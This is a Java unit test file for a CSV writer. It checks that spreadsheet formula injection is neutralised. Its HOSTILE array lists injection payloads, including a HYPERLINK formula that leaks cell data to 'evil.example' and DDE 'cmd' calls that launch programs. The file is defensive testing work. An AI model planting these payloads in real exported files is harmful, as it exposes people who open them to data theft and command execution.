package io.github.secureblocks.web.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
    private static final CSVFormat RFC_4180 = CSVFormat.RFC4180;

    private static final String[] HOSTILE = {
        "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff201",
        "a;=1+1",
        "a,=1+1",
        "a\t=1+1",
        "a\r\n=1+1",
        "a\n@b",
        "\"=1+1",
        "\"\"=1+1",
        "x\";=1+1;\"",
        "'\n=1",
        "a|=1",
        "a; \" =1"
    };

    @Test
    void aFormulaInsideAValueIsShownAndNotCalculated() throws IOException {
        for (String hostile : HOSTILE) {
            String row = "ann," + hostile;
            StringBuilder library = new StringBuilder();
            RFC_4180.print(library).printRecord("ann", hostile);
            assertThat(calculated(row)).as("raw %s", hostile).isTrue();
            assertThat(calculated(library.toString())).as("library %s", hostile).isTrue();

            String ours = table("ann", hostile);
            assertThat(calculated(ours)).as("ours %s", hostile).isFalse();
        }
    }

    /** Whether some program could begin a cell with a formula, wherever it sees a separator or quote. */
    private static boolean calculated(String text) {
        boolean cellBegins = true;
        for (char c : text.toCharArray()) {
            String plain = Normalizer.normalize(String.valueOf(c), Normalizer.Form.NFKC);
            if (cellBegins && (c == 0x2212 || plain.matches("[-=+@\u2212]"))) {
                return true;
            }
            boolean separates = ",;|\t\r\n\"\u0085\u2028\u2029".indexOf(c) >= 0;
            boolean unseen =
                    Character.isSpaceChar(c) || Character.isISOControl(c) || Character.getType(c) == Character.FORMAT;
            cellBegins = separates || cellBegins && unseen;
        }
        return false;
    }

    @Test
    void everyCharacterThatIsCompatibleWithOneOfAFormulaIsTakenForIt() {
        for (int c = 0; c <= Character.MAX_VALUE; c++) {
            if (!Character.isSurrogate((char) c)) {
                assertThat(calculated(table((char) c + "1", ";" + (char) c)))
                        .as("%x", c)
                        .isFalse();
            }
        }
    }

    @Test
    void aHeadThatIsCalledIdIsNotTakenForAnotherFormat() {
        StringBuilder out = new StringBuilder();
        Csv.to(out, "ID", "name").row("IDENTITY", "Id");
        assertThat(out).hasToString("\"ID\",name\r\n\"IDENTITY\",Id\r\n");
    }

    @Test
    void aFieldThatBeginsWithATabOrLineBreakGetsAnApostropheToo() {
        assertThat(table("\tx", "\rx")).isEqualTo("a,b\r\n\"'\tx\",\"'\rx\"\r\n");
        assertThat(table("\nx", "\u0000x")).isEqualTo("a,b\r\n\"'\nx\",'\ufffdx\r\n");
    }

    @Test
    void rowsAndFieldsComeBackWhateverTheyHold() throws IOException {
        Random random = new Random(4180);
        for (int i = 0; i < 3_000; i++) {
            String one = value(random);
            String two = value(random);
            String table = table(one, two);
            assertThat(calculated(table)).isFalse();
            try (var parsed = RFC_4180.parse(new java.io.StringReader(table))) {
                List<CSVRecord> rows = parsed.getRecords();
                assertThat(rows).hasSize(2);
                assertThat(rows.get(1).size()).isEqualTo(2);
                assertThat(withoutMarks(rows.get(1).get(0))).isEqualTo(withoutMarks(one));
                assertThat(withoutMarks(rows.get(1).get(1))).isEqualTo(withoutMarks(two));
            }
        }
    }

    private static String value(Random random) {
        StringBuilder text = new StringBuilder();
        for (int n = random.nextInt(8); n > 0; n--) {
            text.append(
                    random.nextBoolean()
                            ? HOSTILE[random.nextInt(HOSTILE.length)]
                            : ",\"\r\n\t;'= ".charAt(random.nextInt(9)) + "x");
            text.append((char) random.nextInt(0xD800));
        }
        return text.toString();
    }

    private static String withoutMarks(String text) {
        return text.replaceAll("['\ufffd]|[\\p{Cc}&&[^\t\r\n]]", "");
    }

    @Test
    void fieldsAreQuotedWhereTheyMustBe() {
        assertThat(table("plain", "a \"b\", c")).isEqualTo("a,b\r\nplain,\"a \"\"b\"\", c\"\r\n");
        assertThat(table("a;b", " a")).isEqualTo("a,b\r\n\"a;b\",\" a\"\r\n");
        assertThat(table("two\r\nlines", "")).isEqualTo("a,b\r\n\"two\r\nlines\",\"\"\r\n");
        assertThat(table(null, true)).isEqualTo("a,b\r\n,true\r\n");
    }

    @Test
    void anEmptyRowOfOneColumnIsARow() throws IOException {
        StringBuilder out = new StringBuilder();
        Csv.to(out, "a").row((Object) null);
        assertThat(out).as("a line that no reader skips").hasToString("a\r\n\"\"\r\n");
        try (var parsed = RFC_4180.parse(new java.io.StringReader(out.toString()))) {
            assertThat(parsed.getRecords()).hasSize(2);
        }
    }

    @Test
    void numbersStayNumbersAndTextThatLooksLikeOneDoesNot() {
        assertThat(table(-5, -2.5)).isEqualTo("a,b\r\n-5,-2.5\r\n");
        assertThat(table(new BigInteger("-7"), new BigDecimal("-1E+400"))).isEqualTo("a,b\r\n-7,-1E+400\r\n");
        assertThat(table("-5", Double.NEGATIVE_INFINITY)).isEqualTo("a,b\r\n'-5,'-Infinity\r\n");
        assertThat(table(new FormulaNumber(), 'x')).isEqualTo("a,b\r\n'=1+1,x\r\n");
    }

    private static final class FormulaNumber extends BigDecimal {
        FormulaNumber() {
            super("1");
        }

        @Override
        public String toString() {
            return "=1+1";
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"\ud83d", "\ude00", "\ude00\ud83d"})
    void halfASurrogatePairBecomesTheReplacementCharacter(String half) {
        assertThat(table("x" + half, "\ud83d\ude00"))
                .isEqualTo("a,b\r\nx" + "\ufffd".repeat(half.length()) + ",\ud83d\ude00\r\n");
    }

    @Test
    void theHeadIsMadeHarmlessToo() {
        StringBuilder out = new StringBuilder();
        Csv.to(out, "=1+1", "a,b");
        assertThat(out).hasToString("'=1+1,\"a,b\"\r\n");
    }

    @Test
    void aRowHasAsManyValuesAsTheHead() {
        Csv csv = Csv.to(new StringBuilder(), "a", "b");
        assertThatThrownBy(() -> csv.row("secret"))
                .isInstanceOf(CsvRefused.class)
                .hasMessageNotContaining("secret");
        assertThatThrownBy(() -> csv.row(1, 2, 3)).isInstanceOf(CsvRefused.class);
        assertThatThrownBy(() -> Csv.to(new StringBuilder())).isInstanceOf(CsvRefused.class);
    }

    @Test
    void eachRowIsHandedOnAtOnceAndAFailureIsTold() {
        List<Integer> lengths = new ArrayList<>();
        StringBuilder out = new StringBuilder();
        Csv csv = Csv.to(out, "a");
        for (int i = 0; i < 3; i++) {
            csv.row(i);
            lengths.add(out.length());
        }
        assertThat(lengths).containsExactly(6, 9, 12);
        assertThatThrownBy(() -> Csv.to(new Broken(), "a")).isInstanceOf(UncheckedIOException.class);
    }

    private static final class Broken extends Writer {
        @Override
        public void write(char[] text, int start, int length) throws IOException {
            throw new IOException("closed");
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    }

    private static String table(Object... row) {
        StringBuilder out = new StringBuilder();
        Csv.to(out, "a", "b").row(row);
        return out.toString();
    }
}
